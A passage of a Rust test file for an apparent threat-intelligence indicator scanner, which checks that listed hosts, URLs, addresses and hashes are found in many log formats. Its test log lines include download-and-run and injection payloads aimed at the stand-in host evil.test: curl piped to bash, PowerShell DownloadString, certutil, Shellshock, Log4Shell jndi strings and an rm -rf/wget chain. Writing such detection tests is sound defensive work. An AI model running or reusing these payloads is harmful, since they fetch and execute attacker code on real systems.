//! Pairs of a list and a line: each form in which logs were seen to hide a listed value, next to near misses that must not hit.
//!
//! A row gives the values of a plain list, a line, and the indicators that hit by default, sorted by text. Each form
//! that must hit has a row beside it that looks alike but must not hit, or that must hit although it looks like one that must not.
#![cfg(feature = "feeds")]

use std::collections::BTreeSet;
use std::ops::ControlFlow;

use netsieve::feed::{self, Format};
use netsieve::{Feed, Policy, Scanner, Sieve};

#[path = "pairs/spelled.rs"]
mod spelled;

/// List, line, hits.
type Row = (&'static str, &'static str, &'static str);

fn sieve(list: &str) -> Sieve {
    let mut policy = Policy::default();
    policy.admit_bogons = true;
    let feed = Feed::new("f").policy(policy);
    let mut builder = Sieve::builder();
    let id = builder.feed(feed.clone());
    let text = list.split(' ').collect::<Vec<_>>().join("\n");
    feed::read(text.as_bytes(), "", Some(Format::Plain), &feed, &mut builder.sink(id)).expect(list);
    let (sieve, report) = builder.build().expect(list);
    assert_eq!(report.feeds[0].rejected_by_reason.len(), 0, "{list}");
    sieve
}

fn hits(sieve: &Sieve, log: &[u8]) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    Scanner::new(sieve).scan(log, |hit| {
        found.extend(hit.matches().iter().map(|by| by.indicator().to_string()));
        ControlFlow::Continue(())
    });
    found
}

#[track_caller]
fn check(rows: &[Row]) {
    let mut wrong = Vec::new();
    for &(list, log, want) in rows {
        let got = hits(&sieve(list), log.as_bytes()).into_iter().collect::<Vec<_>>().join(" ");
        if got != want {
            wrong.push(format!("{list} in {log:?}\n  finds {got:?}, not {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), rows.len(), wrong.join("\n"));
}

const U: &str = "http://evil.test/a/x.sh";
const H: &str = "http://evil.test/";
const D: &str = "evil.test";
const A: &str = "203.0.113.7";

/// A host listed together with a URL, a parent with a child, an address with its network: none takes the other's hit.
#[test]
fn hits_of_all_readings_are_reported() {
    check(&[
        (
            "http://evil.test/a/x.sh http://evil.test/",
            "'http://evil.test/a/x.sh','x'",
            "http://evil.test/ http://evil.test/a/x.sh",
        ),
        ("http://evil.test/a/x.sh http://evil.test/", "'http://evil.test/a/y.sh','x'", H),
        (
            "http://evil.test/a/x.sh http://evil.test/a/",
            "get http://evil.test/a/x.sh;id",
            "http://evil.test/a/ http://evil.test/a/x.sh",
        ),
        ("http://evil.test/a/x.sh http://evil.test/a/", "get http://evil.test/ax.sh;id", ""),
        ("bad.evil.test evil.test", "user%40bad.evil.test", "bad.evil.test evil.test"),
        ("bad.evil.test evil.test", "user%40good.evil.test", D),
        (
            "evil.test http://evil.test/a/x.sh",
            "GET http://evil.test/a/x.sh?id=7 HTTP/1.1",
            "evil.test http://evil.test/a/x.sh",
        ),
        ("evil.test http://evil.test/a/x.sh?id=7", "GET http://evil.test/a/x.sh?id=70 HTTP/1.1", D),
        ("203.0.113.7 203.0.113.0/24", "to 203.0.113.7:443", "203.0.113.0/24 203.0.113.7"),
        ("203.0.113.7 203.0.113.0/24", "to 203.0.113.70:443", "203.0.113.0/24"),
        ("nevil.test evil.test", r"C:\nevil.test\x \nevil.test", D),
        ("http://evil.test/a http://evil.test/a,b", "http://evil.test/a,b", "http://evil.test/a http://evil.test/a,b"),
        ("http://evil.test/a http://evil.test/a,b", "http://evil.test/a,c", "http://evil.test/a"),
        (
            "http://evil.test/a) http://evil.test/a",
            "(see http://evil.test/a)",
            "http://evil.test/a http://evil.test/a)",
        ),
        ("http://evil.test/a", "http://evil.test/./a,x", "http://evil.test/a"),
        ("http://evil.test/a", "http://evil.test/b/./a,x", ""),
        ("http://evil.test/?)x,", "http://evil.test/%2F.?)x,", "http://evil.test/?)x,"),
        ("-evil.test evil.test", "--evil.test", "evil.test"),
        ("-evil.test evil.test", "x --evil.test", "evil.test"),
    ]);
}

/// Every character and escape that ends a URL in a payload, a table or prose.
#[test]
fn ends_of_urls() {
    // The text before the URL, and the text after it.
    let around = [
        ("wget+", "+-O-"),
        ("x=", "&y=1"),
        ("$(curl ", ")"),
        ("$(curl ", ");id"),
        ("`wget ", "`"),
        ("[", "]"),
        ("{", "}"),
        ("^", "^"),
        ("*", "*"),
        ("!", "!"),
        ("", "::$DATA"),
        ("cd%20/tmp;wget%20", "%20-O%20x"),
        ("wget%20", "%3Bsh%20x.sh"),
        ("%22", "%22"),
        ("%27", "%27%20or%201=1"),
        ("%60wget%20", "%60"),
        ("", "%7Csh"),
        ("", "%26%26sh"),
        ("", "%0aid"),
        ("", "%0D%0Aid"),
        ("", "%09x"),
        ("", "%3C/a%3E"),
        ("", "%5Cn"),
        ("", "%5Cr%5Cn"),
        ("", "%5C%22"),
        ("", "%255Cn"),
        ("", "%2520-O"),
        (r"\x22", r"\x22"),
        (r"\x27", r"\x27\x3b"),
        ("wget${IFS}", "${IFS}-O"),
        ("", "&quot;)"),
        ("", "&amp;x=1"),
        ("&lt;", "&gt;"),
        ("&#39;", "&#39;"),
        ("\u{201c}", "\u{201d}"),
        ("\u{ab}", "\u{bb}"),
        ("\u{2018}", "\u{2019}"),
        ("", "\u{2026}"),
        ("", "\u{3002}"),
        ("", "\u{ff0c}"),
        ("\u{300c}", "\u{300d}"),
        ("", "\u{a0}x"),
        ("", "\u{3000}x"),
        ("<", ">"),
        ("(", ")."),
        ("(", ", see there)"),
        ("\"", "\","),
        ("'", "';"),
        (r#"\""#, r#"\","#),
        (r"", r"\n"),
        (r"", r"\r\n"),
        (r"", r"\u0022"),
        (r"", r"\\n"),
        ("url:", ","),
        ("a;", ";b"),
        ("a|", "|b"),
        ("a,", ",b"),
        ("idp.", ""),
        ("GET /r?u=", "&sa=D&source=mail"),
        ("https://url.example/?q=", "&e=1"),
        ("https://url.example/v3/__", "__;!!AbC"),
        ("jndi:ldap://x.example/", "}"),
        ("url(", ")"),
        ("href=", ">x</a>"),
        ("![x](", ")"),
        ("[x](", " \"y\")"),
        ("||", "^$third-party"),
        ("tcp|", "|200"),
        ("#012", "#012"),
        ("=", " "),
    ];
    let one = sieve(U);
    let mut wrong = Vec::new();
    for (before, after) in around {
        let line = format!("{before}{U}{after}");
        if hits(&one, line.as_bytes()).is_empty() {
            wrong.push(format!("not found: {line}"));
        }
        // Other paths and another host: none of them is the listed URL.
        for other in [
            "http://evil.test/a/x.shx",
            "http://evil.test/a/x.sh/y",
            "http://evil.test/a/x",
            "http://xevil.test/a/x.sh",
            "http://evil.test.example/a/x.sh",
        ] {
            let line = format!("{before}{other}{after}");
            if !hits(&one, line.as_bytes()).is_empty() {
                wrong.push(format!("found: {line}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn encodings_of_urls() {
    check(&[
        (U, r"url=http:\/\/evil.test\/a\/x.sh", U),
        (U, r"url=http:\/\/evil.test\/a\/x.shx", ""),
        (U, r#""{\"u\":\"http:\\/\\/evil.test\\/a\\/x.sh\"}""#, U),
        (U, r"http:\u002f\u002fevil.test\u002fa\u002fx.sh", U),
        (U, r"http:\u002f\u002fevil.test\u002fa\u002fx.shx", ""),
        (U, "http%3A%2F%2Fevil.test%2Fa%2Fx.sh", U),
        (U, "http%3A%2F%2Fevil.test%2Fa%2Fx.sh%2Fy", ""),
        (U, "http%253A%252F%252Fevil.test%252Fa%252Fx.sh", U),
        (U, "http&#58;&#47;&#47;evil.test&#47;a&#47;x.sh", U),
        (U, r"http:\\evil.test\a\x.sh", U),
        (U, r"http:\\evil.test\a\x.shx", ""),
        (U, r#"{"u":"http:\\\\evil.test\\a\\x.sh"}"#, U),
        ("http://203.0.113.7/a", r"evil.testhttp:\\203.0.113.7\a", "http://203.0.113.7/a"),
        ("http://203.0.113.7/a", r"evil.testhttp:\\203.0.113.7\ab", ""),
        (U, r"https:\\evil.test\a\x.sh", U),
        (U, r"gopher:\\evil.test\a\x.sh", ""),
        (U, "HTTP://EVIL.TEST/a/x.sh", U),
        (U, "HTTP://EVIL.TEST/A/X.SH", ""),
        (U, "http://evil.test:80/a/x.sh", U),
        (U, "http://evil.test:8080/a/x.sh", U),
        ("http://evil.test:8080/a", "http://evil.test:8080/a", "http://evil.test:8080/a"),
        ("http://evil.test:8080/a", "http://evil.test:8081/a", ""),
        ("http://evil.test:8080/a", "http://evil.test/a", ""),
        (U, "https://evil.test:443/a/x.sh", U),
        (U, "http://evil.test./a/x.sh", U),
        (U, "http://u:p@evil.test/a/x.sh", U),
        (U, "http://evil.test@host.example/a/x.sh", ""),
        (U, "http://evil.test/b/../a/x.sh", U),
        (U, "http://evil.test//a///x.sh", U),
        (U, "http://evil.test/%61/x%2Esh", U),
        (U, "http://evil.test/a/x.sh#top", U),
        (U, "http://evil.test/a/x.sh?y", U),
        (U, "evil.test/a/x.sh", U),
        (U, "evil.test/a/x.shx", ""),
        (U, "evil.test:80/a/x.sh", U),
        (U, "evil.test:81/a/x.sh", U),
        (U, "//evil.test/a/x.sh", U),
        (U, "xhttp://evil.test/a/x.sh", U),
        (U, "idp.http://evil.test/a/x.sh", U),
        (U, "ftp://evil.test/a/x.sh", U),
        (U, "smb://evil.test/a/x.sh", ""),
        ("http://evil.test/g?id=1&k=2", r"http://evil.test/g?id\=1&k\=2", "http://evil.test/g?id=1&k=2"),
        ("http://evil.test/g?id=1&k=2", r"http://evil.test/g?id=1\u0026k=2", "http://evil.test/g?id=1&k=2"),
        ("http://evil.test/g?id=1&k=2", "http://evil.test/g?id=1&amp;k=2", "http://evil.test/g?id=1&k=2"),
        ("http://evil.test/g?id=1&k=2", "http://evil.test/g?id=3D1&k=3D2", "http://evil.test/g?id=1&k=2"),
        ("http://evil.test/g?id=1&k=2", "http://evil.test/g?id=1&k=22", ""),
        ("http://evil.test/g?id=1&k=2", "http://evil.test/g?k=2&id=1", ""),
        ("http://[2001:db8::7]/a", "GET http://[2001:DB8:0::7]/a HTTP/1.1", "http://[2001:db8::7]/a"),
        ("http://[2001:db8::7]/a", "GET http://[2001:db8::8]/a HTTP/1.1", ""),
        ("http://203.0.113.7/a", "http://0xCB007107/a", "http://203.0.113.7/a"),
        ("http://203.0.113.7/a", "http://3405803783/a", "http://203.0.113.7/a"),
        ("http://203.0.113.7/a", "http://3405803784/a", ""),
        ("http://b\u{fc}cher.test/a", "http://xn--bcher-kva.test/a", "http://xn--bcher-kva.test/a"),
        ("http://b\u{fc}cher.test/a", "http://bucher.test/a", ""),
    ]);
}

/// Text that follows an unquoted URL is separate from it.
#[test]
fn text_after_a_url() {
    check(&[
        (D, "http://a.example/x,evil.test,GET", D),
        (D, "http://a.example/x|evil.test|GET", D),
        (D, "http://a.example/x;evil.test;GET", D),
        (D, "http://a.example/x^evil.test^GET", D),
        (D, "http://a.example/x/evil.test/GET", ""),
        (D, "http://a.example/x-evil.test", ""),
        (A, "http://a.example/x,203.0.113.7,GET", A),
        (A, "http://a.example/x;203.0.113.7", A),
        (U, "http://a.example/x,http://evil.test/a/x.sh,GET", U),
        (U, "http://a.example/x,evil.test/a/x.sh,GET", U),
        (D, "GET /?u=http://a.example/x&host=evil.test HTTP/1.1", D),
        (D, "GET /?u=http://a.example/x&evil.test HTTP/1.1", ""),
        (D, "GET /?u=http://a.example/x+host=evil.test HTTP/1.1", ""),
        (D, "GET http://b.example/?u=http://a.example/x&host=evil.test HTTP/1.1", D),
        (D, "GET http://b.example/?u=http://a.example/x/host=evil.test HTTP/1.1", ""),
        (D, "GET /?u=a.example/x&host=evil.test HTTP/1.1", D),
        (D, "GET /?u=a.example/x&host=/a/evil.test HTTP/1.1", ""),
        (D, r#"{"url":"/?u=http://a.example/x\u0026host=evil.test"}"#, D),
        (D, r#"{"url":"/?u=http://a.example/x\u002fhost=evil.test"}"#, ""),
        (U, "GET /?u=http://a.example/x&r=evil.test/a/x.sh HTTP/1.1", U),
        (U, "GET /?u=http://a.example/x/r=evil.test/a/x.sh HTTP/1.1", ""),
        (D, "GET /?c=wget%20http://a.example/x%3Bping%20evil.test HTTP/1.1", D),
        (D, "GET /?c=wget%20http://a.example/x%2Fping%20evil.test HTTP/1.1", ""),
        (D, "http://a.example/x%2Cevil.test", D),
        (D, "http://a.example/x%2Devil.test", ""),
        (D, "http://a.example/x%7Cevil.test%7CGET", D),
        (D, "http://a.example/?u=evil.test", D),
        (D, "http://a.example/?u=evil.testx", ""),
        (D, "http://a.example/?u=xevil.test", ""),
    ]);
}

#[test]
fn names_hosts_slashes_and_at_signs() {
    check(&[
        (D, r"\\evil.test\share\x.exe", D),
        (D, r"\\evil.test@SSL\DavWWWRoot\x", D),
        ("evil.test:8443", r"\\evil.test@SSL@8443\x", "evil.test:8443"),
        ("evil.test:8443", r"\\evil.test@8444\x", ""),
        (D, r"C:\temp\evil.test", ""),
        (D, r#"{"p":"C:\\temp\\evil.test"}"#, ""),
        (D, r#"{"p":"\\\\evil.test\\share"}"#, D),
        (D, r"\\host.example\evil.test\x", ""),
        (D, "cifs/evil.test", D),
        (D, "HTTP/evil.test@REALM.EXAMPLE", D),
        (D, "host/evil.test", D),
        (D, "lib/evil.test", ""),
        (D, "DIRECT/evil.test", D),
        (D, "/Common/evil.test", D),
        (D, "/var/log/evil.test", ""),
        (D, "/common/evil.test", ""),
        (D, "admin@evil.test@203.0.113.7", D),
        (A, "admin@evil.test@203.0.113.7", A),
        (D, "evil.test@host.example", ""),
        (D, "user@evil.test", D),
        (D, "user@evil.test.example", ""),
        (D, "user@mail.evil.test", D),
        (D, "203.0.113.9/443,evil.test", D),
        (A, "203.0.113.7/443,evil.test", A),
        ("203.0.113.7:443", "203.0.113.7/443 evil.test", "203.0.113.7:443"),
        ("203.0.113.7:443", "203.0.113.7/444 evil.test", ""),
        ("203.0.113.7:443", "203.0.113.7(443)", "203.0.113.7:443"),
        ("203.0.113.7:443", "203.0.113.7(80)", ""),
        ("203.0.113.7:53", "client 203.0.113.7#53 (x.example)", "203.0.113.7:53"),
        ("203.0.113.7:53", "client 203.0.113.7#5353 (x.example)", ""),
        (A, "\x1b[31m203.0.113.7\x1b[0m", A),
        (A, "\x1b[31m1203.0.113.7\x1b[0m", ""),
        (A, "#033[31m203.0.113.7", A),
        ("203.0.113.7:443", "IP 192.0.2.1.49152 > 203.0.113.7.443: Flags [S]", "203.0.113.7:443"),
        ("203.0.113.7:443", "IP 192.0.2.1.49152 > 203.0.113.7.80: Flags [S]", ""),
        ("203.0.113.7:443", "IP 192.0.2.1.49152 > 203.0.113.7.https: Flags [S]", "203.0.113.7:443"),
        (A, "tcp4 0 0 192.0.2.1.49152 203.0.113.7.443 ESTABLISHED", A),
        (A, "1.203.0.113.7", ""),
        (A, "203.0.113.7.9.9", ""),
        (A, "203.0.113.7.", A),
        (A, "v203.0.113.7", ""),
        (A, "203.0.113.70", ""),
        (A, "203.0.113.07", ""),
        (A, "7.113.0.203.in-addr.arpa", A),
        (A, "7.113.0.203.IN-ADDR.ARPA.", A),
        (A, "7.113.0.203.in-addr.arpa.example", ""),
        (A, "9.7.113.0.203.in-addr.arpa", ""),
        ("2001:db8::7", "7.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", "2001:db8::7"),
        ("2001:db8::7", "8.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa", ""),
        (D, "href=3Devil.test", D),
        (D, "3Devil.test", ""),
        (D, "x%40evil.test", D),
        (D, "x%2540evil.test", D),
        (D, "xevil.test", ""),
        (D, "evil.test-", D),
        (D, "-evil.test", D),
        (D, "x-evil.test", ""),
        (D, "x_evil.test", ""),
        (D, "evil.test_x", ""),
        (D, "evil.test.", D),
        (D, "evil.test..", D),
        (D, "EVIL.Test", D),
        (D, "www.evil.test", D),
        (D, "evil.test.example", ""),
        (D, "(3)www(4)evil(4)test(0)", D),
        (D, "(3)www(4)evil(4)test(7)example(0)", ""),
        (D, r"evil\u002etest", D),
        (D, "evil\u{3002}test", D),
        (D, "\u{2192}evil.test", D),
        (A, "::ffff:203.0.113.7", A),
        (A, "::ffff:cb00:7107", A),
        (A, "64:ff9b::cb00:7107", A),
        (A, "::ffff:203.0.113.8", ""),
        ("2001:db8::7", "src:2001:db8::7", "2001:db8::7"),
        ("2001:db8::7", "IPv6:2001:0db8:0:0:0:0:0:0007", "2001:db8::7"),
        ("2001:db8::7", "2001:db8::7%eth0", "2001:db8::7"),
        ("2001:db8::7", "2001:db8::7:", "2001:db8::7"),
        ("2001:db8::7", "2001:db8::70", ""),
        ("[2001:db8::7]:443", "[2001:db8::7]:443", "[2001:db8::7]:443"),
        ("[2001:db8::7]:443", "[2001:db8::7]:80", ""),
        ("[2001:db8::7]:443", "2001:db8::7.443 > 2001:db8::1.5", "[2001:db8::7]:443"),
        ("::7", "12:34:07", ""),
    ]);
}

/// Text that only looks like an indicator, next to indicators that do not look like one.
#[test]
fn look_alikes() {
    check(&[
        (A, "Chrome/203.0.113.7 Safari/537.36", ""),
        (A, "%20Chrome%2F203.0.113.7%20", ""),
        (A, "HIER_DIRECT/203.0.113.7", A),
        (A, "dst/203.0.113.7:50010", A),
        (A, "/203.0.113.7:50010", A),
        (A, "productVersion=203.0.113.7", ""),
        (A, "\"agent_version\": \"203.0.113.7\"", ""),
        (A, "server=203.0.113.7", A),
        (A, "driver=203.0.113.7", A),
        (A, "ver=203.0.113.7", ""),
        (A, "rv:203.0.113.7", ""),
        (A, "srv:203.0.113.7", A),
        (A, "pkg-203.0.113.7-1.el9.x86_64", ""),
        (A, "ip-203.0.113.7-x", A),
        (A, "tcp-203.0.113.7-443", A),
        ("data.name", r#"{"data.name":"x"}"#, ""),
        ("data.name", r#"{"x":"data.name"}"#, "data.name"),
        ("data.name", r#"{"x":1, "data.name" : "x"}"#, ""),
        ("data.name", r#"lookup "data.name": no such host"#, "data.name"),
        ("data.name", "$data.name", ""),
        ("data.name", "data.name()", ""),
        ("app.run", "app.run(debug=True)", ""),
        ("app.run", "app.run(host='0.0.0.0')", ""),
        ("console.info", "console.info(\"x\")", ""),
        ("console.info", r#"{"c":"console.info(\"x\")"}"#, ""),
        ("data.map", "data.map(function(x) { return x })", ""),
        ("data.map", "data.map({a: 1})", ""),
        ("app.run", "app.run(203.0.113.7)", "app.run"),
        ("app.run", "app.run(443)", "app.run"),
        ("app.run", "app.run (debug=True)", "app.run"),
        ("app.run", "app.run(phishing)", "app.run"),
        ("app.run", "app.run(category=phishing)", "app.run"),
        ("app.run", "app.run[203.0.113.7]", "app.run"),
        ("evil.zip", "file=evil.zip", ""),
        ("evil.zip", "host=evil.zip", "evil.zip"),
        ("evil.zip", "\"filename\":\"evil.zip\"", ""),
        ("evil.zip", "\"query\":\"evil.zip\"", "evil.zip"),
        ("main.py", "main.py:12: error", ""),
        ("main.py", "main.py:443", "main.py"),
        ("main.py", "python main.py", ""),
        ("main.py", "query main.py", "main.py"),
        ("main.py", "File \"main.py\", line 3", ""),
        ("main.py", "Query \"main.py\", type A", "main.py"),
        ("evil.sh", "http://host.example/evil.sh", ""),
        ("evil.sh", "http://evil.sh/", "evil.sh"),
        ("evil.sh", "./evil.sh", ""),
    ]);
}

/// Hashes and mail addresses.
#[test]
fn exact_values() {
    const M: &str = "0123456789abcdef0123456789abcdef";
    check(&[
        (M, "md5=0123456789ABCDEF0123456789ABCDEF", M),
        (M, "MD5:0123456789abcdef0123456789abcdef,SHA1=x", M),
        (M, "01:23:45:67:89:ab:cd:ef:01:23:45:67:89:ab:cd:ef", M),
        (M, "01-23-45-67-89-ab-cd-ef-01-23-45-67-89-ab-cd-ef", M),
        (M, "01234567-89ab-cdef-0123-456789abcdef", ""),
        (M, "0123456789abcdef0123456789abcdef0", ""),
        (M, "x0123456789abcdef0123456789abcdef", ""),
        (M, "_0123456789abcdef0123456789abcdef_", M),
        (M, "0123456789abcdef0123456789abcdee", ""),
        (M, "/files/0123456789abcdef0123456789abcdef.exe", M),
        ("boss@evil.test", "from=<Boss@Evil.Test>", "boss@evil.test"),
        ("boss@evil.test", "mailto:boss@evil.test?subject=x", "boss@evil.test"),
        ("boss@evil.test", "xboss@evil.test", ""),
        ("boss@evil.test", "x.boss@evil.test", ""),
        ("boss@evil.test", "boss+x@evil.test", ""),
        ("boss+x@evil.test", "boss+x@evil.test", "boss+x@evil.test"),
        ("boss@evil.test", "boss@mail.evil.test", ""),
        ("boss@evil.test", "boss%40evil.test", "boss@evil.test"),
        ("boss@evil.test evil.test", "to boss@evil.test", "boss@evil.test evil.test"),
    ]);
}

/// A range of ports means each of its ports, no other port, and never any port.
#[test]
fn ranges_of_ports() {
    check(&[
        ("203.0.113.7:8000-8002", "203.0.113.7:8001", "203.0.113.7:8001"),
        ("203.0.113.7:8000-8002", "203.0.113.7:8003", ""),
        ("203.0.113.7:80,443", "203.0.113.7:443", "203.0.113.7:443"),
        ("203.0.113.7:80,443", "203.0.113.7:444", ""),
        ("evil.test:8000-8002", "http://evil.test:8002/", "evil.test:8002"),
        ("evil.test:8000-8002", "http://evil.test/", ""),
        ("[2001:db8::7]:80-81", "[2001:db8::7]:81", "[2001:db8::7]:81"),
        ("[2001:db8::7]:80-81", "[2001:db8::7]:82", ""),
    ]);
}

/// Lines as programs write them, with the forms of values in each.
#[test]
fn lines_of_programs() {
    check(&[
        // Certificates, mail, authentication.
        (D, "subject=\"CN=evil.test,O=x\" san=DNS:www.host.example", D),
        (D, "san=DNS:www.host.example, DNS:*.evil.test", D),
        (D, "san=DNS:www.host.example, DNS:*.nevil.test", ""),
        (D, "Received: from evil.test (evil.test [203.0.113.9]) by mx.example", D),
        (A, "Received: from x.example (x.example [203.0.113.7]) by mx.example", A),
        (A, "X-Originating-IP: [203.0.113.7]", A),
        (A, "relay=mx.example[203.0.113.7]:25, delay=1", A),
        ("203.0.113.7:25", "relay=mx.example[203.0.113.7]:25, delay=1", "203.0.113.7:25"),
        ("203.0.113.7:587", "relay=mx.example[203.0.113.7]:25, delay=1", ""),
        (D, "smtp.mailfrom=evil.test; dkim=pass header.d=x.example", D),
        (D, "dkim=pass header.d=evil.test;", D),
        (D, "s1._domainkey.evil.test TXT", D),
        (D, "_ldap._tcp.evil.test SRV", D),
        ("203.0.113.7 evil.test", "v=spf1 ip4:203.0.113.7 include:evil.test -all", "203.0.113.7 evil.test"),
        (D, "Message-ID: <x.1@evil.test>", D),
        (D, "Message-ID: <x.1@evil.test.local>", ""),
        (A, "<source_ip>203.0.113.7</source_ip>", A),
        (A, "pam_unix(sshd:auth): authentication failure; rhost=203.0.113.7  user=root", A),
        (A, "Failed password for root from 203.0.113.7 port 22 ssh2", A),
        (A, "Failed password for root from 203.0.113.77 port 22 ssh2", ""),
        // Firewalls.
        (A, "SRC=203.0.113.7 DST=192.0.2.1 LEN=40 SPT=443", A),
        (
            "203.0.113.7:443",
            "Built outbound TCP connection 7 for outside:203.0.113.7/443 (203.0.113.7/443)",
            "203.0.113.7:443",
        ),
        ("203.0.113.7:443", "Built outbound TCP connection 7 for outside:203.0.113.7/80 (203.0.113.7/80)", ""),
        ("203.0.113.7:443", "203.0.113.7/443->192.0.2.1/55555 junos-https", "203.0.113.7:443"),
        ("203.0.113.7:443", "{TCP} 203.0.113.7:443 -> 192.0.2.1:5", "203.0.113.7:443"),
        ("203.0.113.7:443", "{TCP} 203.0.113.7:5 -> 192.0.2.1:443", ""),
        (A, "src: 203.0.113.7; dst: 192.0.2.1; proto: tcp;", A),
        (A, "addr[203.0.113.7]", A),
        (A, "203.0.113.7_443", A),
        (A, "203.0.113.7%3A443", A),
        (A, "203.0.113.7%3A443%2F", A),
        (A, "203.0.113.7x", ""),
        (A, "x203.0.113.7", ""),
        (A, "203.0.113.7-203.0.113.9", A),
        (A, "203.0.113.7..203.0.113.9", A),
        // Java, Go, Python, C.
        ("203.0.113.7:443 evil.test", "R:evil.test/203.0.113.7:443", "203.0.113.7:443 evil.test"),
        ("203.0.113.7:443", "R:evil.test/203.0.113.7:80", ""),
        (D, "java.net.UnknownHostException: evil.test", D),
        (D, "UnknownHostException: evil.test: Name or service not known", D),
        (D, "dial tcp: lookup evil.test on 192.0.2.1:53: no such host", D),
        ("203.0.113.7:443", "dial tcp 203.0.113.7:443: i/o timeout", "203.0.113.7:443"),
        ("203.0.113.7 evil.test", "['203.0.113.7', 'evil.test']", "203.0.113.7 evil.test"),
        (D, "host='evil.test', port=443", D),
        (D, "(b'evil.test', 443)", D),
        (D, "{evil.test 443}", D),
        (D, "evil.test=1", D),
        (D, "evil.test|1", D),
        (D, "~evil.test~", D),
        (D, "*evil.test*", D),
        (D, "#evil.test", D),
        (D, "evil.test?", D),
        // Schemes and similar prefixes.
        (D, "git@evil.test:org/x.git", D),
        (D, "rsync evil.test::module", D),
        (D, "sip:100@evil.test;transport=udp", D),
        ("203.0.113.7:5060", "sip:100@203.0.113.7:5060", "203.0.113.7:5060"),
        (D, "jdbc:mysql://evil.test:3306/db", D),
        (D, "redis://:pw@evil.test:6379", D),
        (D, "blob:https://evil.test/1-2", D),
        (U, "view-source:http://evil.test/a/x.sh", U),
        (U, "feed:http://evil.test/a/x.sh", U),
        (D, "magnet:?tr=udp%3A%2F%2Fevil.test%3A80", D),
        (D, "domain=.evil.test; path=/", D),
        (D, "script-src 'self' *.evil.test", D),
        (U, "Location: //evil.test/a/x.sh", U),
        (D, "PROXY evil.test:8080; DIRECT", D),
        (D, "evil.test:5000/img:tag", D),
        (U, "<http://evil.test/a/x.sh|x>", U),
        (U, "IEX(New-Object Net.WebClient).DownloadString('http://evil.test/a/x.sh')", U),
        (U, r#"cmd /c \"certutil -urlcache -f http://evil.test/a/x.sh x.exe\""#, U),
        (U, "curl -s http://evil.test/a/x.sh|bash", U),
        (U, "bash -c {echo,x}|{curl,http://evil.test/a/x.sh}", U),
        (U, "() { :; }; wget http://evil.test/a/x.sh;", U),
        (U, "/shell?cd+/tmp;rm+-rf+*;wget+http://evil.test/a/x.sh;chmod+777+x.sh", U),
        (U, "';exec('wget http://evil.test/a/x.sh')--", U),
        (U, "<!ENTITY x SYSTEM \"http://evil.test/a/x.sh\">", U),
        (U, "${jndi:http://evil.test/a/x.sh}", U),
        (U, "${jndi:http://evil.test/a/x.sh${sys:x}}", U),
        (U, "%24%7Bjndi%3Ahttp%3A%2F%2Fevil.test%2Fa%2Fx.sh%7D", U),
        (U, "<?php include('http://evil.test/a/x.sh'); ?>", U),
        (U, "url=data:text/html,<a href='http://evil.test/a/x.sh'>", U),
        // DNS.
        (D, "query[A] evil.test from 192.0.2.1", D),
        (D, "client @0x7f 192.0.2.1#5 (evil.test): query: evil.test IN A + (192.0.2.2)", D),
        (D, "info: 192.0.2.1 evil.test. A IN", D),
        (D, "eViL.tEsT. 60 IN A 192.0.2.9", D),
        (A, "x.example. 60 IN A 203.0.113.7", A),
        (A, "RRs: x.example./A/203.0.113.7", A),
        (D, "evil.test/A/IN", D),
        (D, "reply evil.test is 192.0.2.9", D),
        (D, "evil.test%00.host.example", D),
        // Tables and objects.
        (A, "1,203.0.113.7,x", A),
        (A, "1\t203.0.113.7\tx", A),
        (A, "\"1\";\"203.0.113.7\";\"x\"", A),
        (A, r#"{"ip":{"203.0.113.7":3}}"#, A),
        (D, r#"{"x":["evil.test"]}"#, D),
        (D, r#"{"x":"a evil.test b"}"#, D),
        (A, "[client 203.0.113.7:5123] AH01", A),
        (A, "<Data Name='IpAddress'>::ffff:203.0.113.7</Data>", A),
        (D, "<Data Name='QueryName'>evil.test</Data>", D),
        (D, "DestinationHostname: evil.test", D),
        (A, "upstream: \"http://203.0.113.7:80/x\"", A),
        (D, "host: \"evil.test\", referrer: \"-\"", D),
        (D, "CONNECT evil.test:443 HTTP/1.1", D),
        ("evil.test:443", "CONNECT evil.test:443 HTTP/1.1", "evil.test:443"),
        ("evil.test:443", "CONNECT evil.test:80 HTTP/1.1", ""),
    ]);
}

/// A reverse name is canonicalised before it is read: other scripts, escapes, and the spare dots of a URL's host.
#[test]
fn reverse_names_in_every_spelling() {
    check(&[
        (A, "http://7.113.0.203.in-addr.arpa/x", A),
        (A, "http://7.113.0..203.in-addr.arpa/x", A),
        (A, "http://.7.113.0.203.in-addr.arpa../x", A),
        (A, "http:\\\\7.113.0.203.IN-ADDR.arpa.\u{3002}%2520", A),
        (A, "http://7.113.0.203.in-addr%2Earpa/x", A),
        (A, "http://7.113.0.203.in-addr.%61rpa/x", A),
        (A, "http://7.113.0.203.in-addr.\u{ff41}\u{ff52}\u{ff50}\u{ff41}/x", A),
        (A, "http://7.113.0.203.in-addr.\u{ff41}\u{ff52}\u{ff50}\u{ff42}/x", ""),
        (A, "http%3A%2F%2F7.113.0.203.in-addr.arpa%20", A),
        (A, "http%3A%2F%2F7.113.0.203.in-addr.arpa%20x", A),
        (A, "http%3A%2F%2F7.113.0.203.in-addr.arpax%20", ""),
        (A, "http://9.7.113.0..203.in-addr.arpa/x", ""),
        (A, "http://7.113.0.203.in-addr%2Earpa%2Etest/x", ""),
        (A, "http://7.113.0.203%2Ein-addr.arpa.test/x", ""),
        (A, "q 7.113.0.203.in-addr.\u{ff41}\u{ff52}\u{ff50}\u{ff41} x", A),
        (A, "q \u{ff17}.113.0.203.in-addr.arpa x", A),
        (A, "q 7\u{3002}113\u{3002}0\u{3002}203\u{3002}in-addr\u{3002}\u{ff41}rpa x", A),
        (A, "q x7.113.0.203.in-addr.\u{ff41}\u{ff52}\u{ff50}\u{ff41} x", ""),
        (A, "q 7.113.0..203.in-addr.arpa x", ""),
    ]);
}

/// Two readings of a text report an indicator once. An address before a dot of another script may be a whole host, or part of one.
#[test]
fn each_indicator_is_reported_once_at_a_place() {
    for (list, log) in [
        ("http://203.0.113.7/", "203.0.113.7\u{3002}evil.test/"),
